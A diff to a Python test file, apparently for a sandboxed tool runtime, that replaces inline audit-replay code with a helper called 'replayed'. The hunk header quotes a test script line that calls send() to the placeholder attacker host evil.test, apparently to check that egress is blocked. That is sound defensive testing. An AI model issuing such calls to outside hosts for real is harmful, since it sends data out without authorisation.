@@ -12,8 +12,8 @@ import pytest
 
 from builtin.webkit import Site, page, serve
 from egress.doors import SEND
+from egress.replays import replayed
 from toolcell import Flow, Limits, Outcome, Policy, Quota, Quotas, RunContext, Runtime, ToolRegistry
-from toolcell.audit import Filter, Index, replay, runtime_options
 from toolcell.control import Approve
 from toolcell.egress import Allow, Egress
 from toolcell.results import ExecutionResult
@@ -232,12 +232,7 @@ set_result([answers, send("https://evil.test/")["failed"]])
     async with opened(audit=tmp_path) as (site, runtime):
         await run(runtime, site, text)
         source = script(site, text)
-    with Index(tmp_path) as index:
-        index.refresh()
-        (line,) = index.runs(Filter(limit=None))
-        recorded = index.load(line)
-    async with Runtime(**runtime_options(recorded)) as runtime:
-        again = await replay(runtime, recorded, source=source)
+    recorded, again = await replayed(tmp_path, source)
 
     assert again.ok, again.divergence
     assert again.answered == 3
